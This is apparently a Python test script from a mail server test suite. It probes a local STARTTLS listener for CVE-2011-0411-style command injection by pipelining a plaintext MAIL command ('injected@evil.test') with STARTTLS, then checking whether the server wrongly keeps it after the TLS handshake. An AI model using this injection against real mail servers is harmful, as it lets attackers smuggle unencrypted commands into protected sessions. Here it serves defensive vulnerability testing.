"""STARTTLS command injection (CVE-2011-0411 style), against a STARTTLS listener.

Sends "STARTTLS" and a plaintext MAIL command in ONE write, completes the TLS handshake, then
sends EHLO and RCPT over TLS. A server that wrongly kept the pipelined plaintext would have
an open transaction and answer the RCPT with 250; a correct one answers 503 (no MAIL).
Finally sends a clean message so the test can check what was stored.

Prints one line per reply: "<step> <reply>", and exits 0 when the conversation completed.
"""
import argparse
import socket
import ssl
import sys


def read_reply(stream):
    lines = []
    while True:
        line = stream.readline()
        if not line:
            raise ConnectionError("server closed the connection")
        lines.append(line.decode("utf-8", "replace").rstrip("\r\n"))
        if len(line) < 4 or line[3:4] != b"-":
            return " | ".join(lines)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, required=True)
    args = parser.parse_args()

    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE

    raw = socket.create_connection(("127.0.0.1", args.port), timeout=60)
    stream = raw.makefile("rb")
    print("greeting", read_reply(stream))
    raw.sendall(b"EHLO injector.test\r\n")
    print("ehlo", read_reply(stream))
    raw.sendall(b"STARTTLS\r\nMAIL FROM:<injected@evil.test>\r\n")
    print("starttls", read_reply(stream))

    tls = context.wrap_socket(raw, server_hostname="mailroom.test")
    stream = tls.makefile("rb")

    def command(step, line):
        tls.sendall(line + b"\r\n")
        print(step, read_reply(stream))

    command("ehlo-tls", b"EHLO injector.test")
    command("rcpt-without-mail", b"RCPT TO:<victim@example.test>")
    command("mail", b"MAIL FROM:<clean@example.test>")
    command("rcpt", b"RCPT TO:<victim@example.test>")
    command("data", b"DATA")
    command("end", b"Subject: clean\r\n\r\nafter STARTTLS\r\n.")
    command("quit", b"QUIT")
    return 0


if __name__ == "__main__":
    sys.exit(main())
